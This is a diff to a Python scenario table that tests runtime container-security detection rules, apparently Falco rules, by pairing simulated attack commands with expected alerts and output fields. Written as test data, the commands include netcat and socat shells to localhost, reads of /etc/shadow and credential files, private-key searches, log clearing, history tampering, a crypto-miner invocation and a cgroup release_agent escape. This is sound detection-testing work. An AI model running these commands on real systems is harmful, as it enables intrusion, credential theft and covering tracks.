@@ -3,7 +3,7 @@
 Each scenario is data: a command (with placeholders), the rules of our default
 ruleset it must raise, and the rules of Falco's upstream stable ruleset it should
 raise. Commands run with the work directory as cwd and HOME, and with bin/ (fake
-tools: nc, socat, apt-get, xmrig, nginx) first on PATH.
+tools: nc, socat, apt-get, xmrig, httpd) first on PATH.
 
 Placeholders: {py} this Python, {w} the workloads/ directory, {workdir}.
 """
@@ -25,7 +25,8 @@ CONTAINER_IMAGE = "registry.example.com/scenario/app:1.0"
 #: Priorities that a benign workload must never raise.
 LOUD_PRIORITIES = ("Emergency", "Alert", "Critical", "Error", "Warning")
 
-ATTACK = "{py} {w}/attack.py"
+ATTACK_SCRIPT = "{w}/attack.py"
+ATTACK = "{py} " + ATTACK_SCRIPT
 
 
 @dataclass(frozen=True)
@@ -41,6 +42,11 @@ class Scenario:
     #: also run the agent as an unprivileged user (the rule must fire on the attempt)
     nonroot: bool = True
     env: Tuple[Tuple[str, str], ...] = field(default=())
+    #: programs that must be installed (the scenario is skipped otherwise)
+    requires: Tuple[str, ...] = ()
+    #: (field, text): an alert of the first expected rule has output_fields[field]
+    #: containing text, so the alert is about the right thing
+    fields: Tuple[Tuple[str, str], ...] = ()
 
 
 def sh(script: str) -> Tuple[str, ...]:
@@ -53,100 +59,140 @@ def py(args: str) -> Tuple[str, ...]:
 
 SCENARIOS: Tuple[Scenario, ...] = (
     # --- process ----------------------------------------------------------------------
-    Scenario("terminal-shell", py(f"{ATTACK} pty-shell"),
+    # `docker exec -it`: the runtime (runc) starts a shell on a terminal
+    Scenario("terminal-shell", sh(f'ln -s "$PYTHON" ./runc && ./runc {ATTACK_SCRIPT} pty-shell'),
              expect=("Shell with terminal in container",),
+             fields=(("proc.name", "sh"), ("proc.pname", "runc")),
              upstream=("Terminal shell in container",)),
-    Scenario("web-server-spawns-shell", ("nginx",),
+    Scenario("web-server-spawns-shell", ("httpd",),
              expect=("Shell spawned by web server",),
+             fields=(("proc.name", "sh"), ("proc.pname", "httpd")),
              upstream=("Run shell untrusted",)),
     Scenario("package-manager", sh("apt-get install -y curl"),
-             expect=("Package manager run in container",)),
+             expect=("Package manager run in container",),
+             fields=(("proc.cmdline", "apt-get install"),)),
     Scenario("drift-dropped-binary", sh("cp /bin/true ./dropped && ./dropped"),
              expect=("Drifted executable run in container",),
+             fields=(("proc.exepath", "/dropped"),),
              upstream=("Drop and execute new binary in container",)),
     Scenario("fileless-memfd", py(f"{ATTACK} memfd-exec"),
              expect=("Fileless execution from memory",),
+             fields=(("proc.exepath", "memfd:payload"),),
+             upstream=("Fileless execution via memfd_create",)),
+    Scenario("fileless-memfd-fexecve", py(f"{ATTACK} memfd-fexecve"),
+             expect=("Fileless execution from memory",),
+             fields=(("proc.exe", "payload"),),
+             upstream=("Fileless execution via memfd_create",)),
+    # a payload that is gone before anyone can look at /proc
+    Scenario("fileless-memfd-short-lived", py(f"{ATTACK} memfd-exec /bin/true"),
+             expect=("Fileless execution from memory",),
+             fields=(("proc.exe", "payload"),),
              upstream=("Fileless execution via memfd_create",)),
     Scenario("exec-from-dev-shm",
              sh('f=/dev/shm/wa-scenario-$$; cp /bin/true "$f" && "$f"; rm -f "$f"'),
              expect=("Execution from temporary directory",),
+             fields=(("proc.exepath", "/dev/shm/wa-scenario-"),),
              upstream=("Execution from /dev/shm",)),
     Scenario("netcat-exec", sh("nc -e /bin/sh 127.0.0.1 4444"),
              expect=("Netcat or socat command execution",),
+             fields=(("proc.cmdline", "nc -e /bin/sh"),),
              upstream=("Netcat Remote Code Execution in Container",)),
     Scenario("socat-exec", ("socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh"),
-             expect=("Netcat or socat command execution",)),
+             expect=("Netcat or socat command execution",),
+             fields=(("proc.cmdline", "EXEC:/bin/sh"),)),
     Scenario("crypto-miner", ("xmrig", "-o", "stratum+tcp://pool.example.org:3333", "-u", "wallet"),
-             expect=("Crypto miner started",)),
+             expect=("Crypto miner started",),
+             fields=(("proc.cmdline", "stratum+tcp://"),)),
     Scenario("credential-search",
              sh('grep -rl "BEGIN RSA PRIVATE KEY" . ; find . -name id_rsa; '
                 'grep -ri aws_secret_access_key . ; true'),
              expect=("Credential or private key search",),
+             fields=(("proc.cmdline", "BEGIN RSA PRIVATE KEY"),),
              upstream=("Search Private Keys or Passwords", "Find AWS Credentials")),
     # --- files ------------------------------------------------------------------------
     Scenario("shadow-read", sh("cat /etc/shadow >/dev/null"),
              expect=("Read of password or sudoers file",),
+             fields=(("fd.name", "/etc/shadow"), ("proc.name", "cat")),
              upstream=("Read sensitive file untrusted",)),
     Scenario("ssh-private-key-read",
              sh('mkdir -p .ssh && printf "key\\n" > .ssh/id_rsa && cat .ssh/id_rsa >/dev/null'),
-             expect=("Read of SSH private key",)),
+             expect=("Read of SSH private key",),
+             fields=(("fd.name", "/.ssh/id_rsa"),)),
     Scenario("cloud-credentials-read",
              sh('mkdir -p .aws && printf "[default]\\n" > .aws/credentials '
                 '&& cat .aws/credentials >/dev/null'),
-             expect=("Read of cloud credentials",)),
+             expect=("Read of cloud credentials",),
+             fields=(("fd.name", "/.aws/credentials"),)),
     Scenario("write-below-bin", py(f"{ATTACK} write-new /usr/local/bin"),
-             expect=("Write below binary directory",)),
+             expect=("Write below binary directory",),
+             fields=(("fd.name", "/usr/local/bin/.wa-scenario-"),)),
     Scenario("write-below-etc", py(f"{ATTACK} write-new /etc"),
-             expect=("File written below /etc",)),
+             expect=("File written below /etc",),
+             fields=(("fd.name", "/etc/.wa-scenario-"),)),
     Scenario("log-clearing", py(f"{ATTACK} write-new /var/log truncate"),
              expect=("Log file cleared",),
+             fields=(("fd.name", "/var/log/.wa-scenario-"),),
              upstream=("Clear Log Activities",)),
     Scenario("shell-history-tampering",
              sh('printf "ls\\n" > .bash_history; : > .bash_history; rm -f .bash_history; '
                 'ln -s /dev/null .bash_history'),
-             expect=("Shell history tampered",)),
+             expect=("Shell history tampered",),
+             fields=(("proc.cmdline", ".bash_history"),)),
     Scenario("links-to-sensitive-files",
              sh("ln -s /etc/shadow shadow-symlink; ln /etc/shadow shadow-hardlink; true"),
              expect=("Link to sensitive file created",),
+             fields=(("evt.arg.target", "/etc/shadow"),),
              upstream=("Create Symlink Over Sensitive Files", "Create Hardlink Over Sensitive Files")),
     Scenario("cgroup-release-agent", py(f"{ATTACK} release-agent {{workdir}}"),
              expect=("Cgroup release_agent written",),
+             fields=(("fd.name", "/release_agent"),),
              upstream=("Detect release_agent File Container Escapes",)),
     Scenario("setuid-bit", sh("cp /bin/true suidbin && chmod u+s suidbin"),
-             expect=("Setuid or setgid bit set",)),
+             expect=("Setuid or setgid bit set",),
+             fields=(("evt.arg.mode", "S_ISUID"), ("proc.name", "chmod"))),
     # --- network ----------------------------------------------------------------------
     Scenario("reverse-shell", py(f"{ATTACK} reverse-shell"),
              expect=("Standard stream redirected to network socket",),
+             fields=(("fd.name", "->127.0.0.1:"),),
              upstream=("Redirect STDOUT/STDIN to Network Connection in Container",)),
     Scenario("packet-socket", py(f"{ATTACK} packet-socket"),
              expect=("Raw or packet socket opened in container",),
+             fields=(("evt.arg.domain", "AF_PACKET"),),
              upstream=("Packet socket created in container",)),
     # UDP connect() only records the destination: no packet leaves the machine.
     Scenario("cloud-metadata", py(f"{ATTACK} udp-connect 169.254.169.254 80"),
-             expect=("Cloud metadata service contacted from container",)),
+             expect=("Cloud metadata service contacted from container",),
+             fields=(("fd.name", "->169.254.169.254:80"),)),
     Scenario("mining-pool-port", py(f"{ATTACK} udp-connect 198.51.100.7 3333"),
-             expect=("Connection to crypto mining pool port",)),
+             expect=("Connection to crypto mining pool port",),
+             fields=(("fd.sport", "3333"),)),
     # --- kernel, privileges, isolation ------------------------------------------------
     Scenario("ptrace-attach", py(f"{ATTACK} ptrace-attach"),
              expect=("Process attached with ptrace",),
+             fields=(("evt.arg.request", "PTRACE_ATTACH"),),
              upstream=("PTRACE attached to process",)),
     Scenario("ptrace-traceme", py(f"{ATTACK} ptrace-traceme"),
              expect=("Anti-debugging with PTRACE_TRACEME",),
              upstream=("PTRACE anti-debug attempt",)),
     Scenario("kernel-module", py(f"{ATTACK} kernel-module"),
              expect=("Kernel module load attempted",),
+             fields=(("evt.type", "init_module"),),
              upstream=("Linux Kernel Module Injection Detected",)),
     Scenario("unshare", py(f"{ATTACK} unshare"),
-             expect=("Namespace changed in container",)),
+             expect=("Namespace changed in container",),
+             fields=(("evt.type", "unshare"),)),
     Scenario("setns", py(f"{ATTACK} setns"),
-             expect=("Namespace changed in container",)),
+             expect=("Namespace changed in container",),
+             fields=(("evt.type", "setns"),)),
     Scenario("mount-host-disk", py(f"{ATTACK} mount {{workdir}}/mnt"),
-             expect=("Mount attempted in container",)),
+             expect=("Mount attempted in container",),
+             fields=(("evt.arg.dev", "/dev/wa-scenario-no-such-disk"),)),
     # --- benign workloads: nothing of WARNING or above --------------------------------
     Scenario("benign-http-server", py("{py} {w}/http_serve_fetch.py site"), benign=True),
     Scenario("benign-python-webapp", py("{py} {w}/webapp.py data"), benign=True),
     Scenario("benign-entrypoint", ("{w}/entrypoint.sh",), benign=True),
-    Scenario("benign-c-build", ("{w}/build.sh",), benign=True),
+    Scenario("benign-c-build", ("{w}/build.sh",), benign=True, requires=("gcc",)),
+    Scenario("benign-nginx", ("{w}/nginx_serve.sh",), benign=True, requires=("nginx",)),
 )
 
 BY_NAME = {s.name: s for s in SCENARIOS}
